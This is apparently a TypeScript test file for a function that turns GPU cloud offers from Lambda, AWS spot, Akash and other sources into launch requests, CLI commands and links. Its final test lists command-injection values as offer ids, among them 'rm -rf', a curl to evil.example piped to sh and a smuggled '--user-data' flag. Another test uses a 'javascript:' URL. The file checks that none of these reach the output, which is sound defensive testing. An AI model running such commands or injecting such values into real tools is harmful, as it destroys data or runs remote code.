import { anOffer } from "@necto/tools/core/testing/offers";
import { HandOff } from "@necto/tools/protocol/hand-off";
import { expect, test } from "vitest";
import { handOffFor } from "./hand-off.ts";

const WANTED = { units: 2, durationSeconds: 5_400 };
const make = (fields: Parameters<typeof anOffer>[0]) =>
  handOffFor(anOffer({ fulfilment: { kind: "quote-only" }, ...fields }), WANTED);

test("Lambda: the launch request with type, region and quantity", () => {
  const handOff = make({ id: "lambda:gpu_8x_h100_sxm5:us-east-1", source: "lambda" });
  expect(HandOff.parse(handOff)).toEqual(handOff);
  expect(handOff).toMatchObject({ kind: "request", url: "https://cloud.lambda.ai/instances" });
  expect(JSON.parse(handOff.body.split("\n\n")[1]!)).toEqual({
    ...{ region_name: "us-east-1", instance_type_name: "gpu_8x_h100_sxm5", quantity: 2 },
    ssh_key_names: ["<your-ssh-key>"],
  });
  expect(handOff.notes).toContain("End it yourself after 2 h: nothing here does.");
});

test("AWS: a one-time spot request of that type in that region, and in that zone where there is one", () => {
  const { body, kind } = make({ id: "aws-spot:p5.48xlarge:eu-west-1", source: "aws-spot" });
  expect(kind).toBe("command");
  expect(body).toMatch(/^aws ec2 run-instances \\\n {2}--region eu-west-1 \\\n/);
  expect(body).toContain("--instance-type p5.48xlarge");
  expect(body).toContain("--count 2");
  expect(body).toContain(`'{"MarketType":"spot","SpotOptions":{"SpotInstanceType":"one-time"}}'`);
  expect(body).not.toContain("--placement");
  const zoned = make({ id: "aws-spot:p5.48xlarge:eu-west-1b", source: "aws-spot" }).body;
  expect(zoned).toContain("--region eu-west-1 ");
  expect(zoned).toContain("--placement AvailabilityZone=eu-west-1b");
});

test("Akash: an SDL of that GPU, as many as a unit has", () => {
  const { body, kind } = make({ id: "akash:a100", source: "akash", gpuCount: 4 });
  expect(kind).toBe("sdl");
  expect(body).toContain("units: 4\n          attributes:\n            vendor:\n              nvidia:");
  expect(body).toContain("count: 2\n");
});

test("another source: its page, when it is one of the web", () => {
  const source = "render";
  expect(make({ id: "render:1", source, url: "https://example.com/x" })).toMatchObject({
    ...{ kind: "link", url: "https://example.com/x" },
  });
  expect(make({ id: "render:1", source, url: "javascript:alert(1)" })).toMatchObject({ url: null });
});

test.each([
  "lambda:$(rm -rf ~):us-east-1",
  'lambda:a";curl evil.example|sh:us-east-1',
  "aws-spot:`id`:eu-west-1",
  "aws-spot:p5; rm -rf /:eu-west-1",
  "aws-spot:p5.48xlarge:eu-west-1' --user-data evil",
])("nothing of a source's own words gets into a command: %s", (id) => {
  const { body } = make({ id, source: id.split(":")[0]! });
  expect(body).not.toMatch(/rm -rf|evil|`id`|\$\(/);
  expect(body).toMatch(/<instance-type>|<region>/);
});
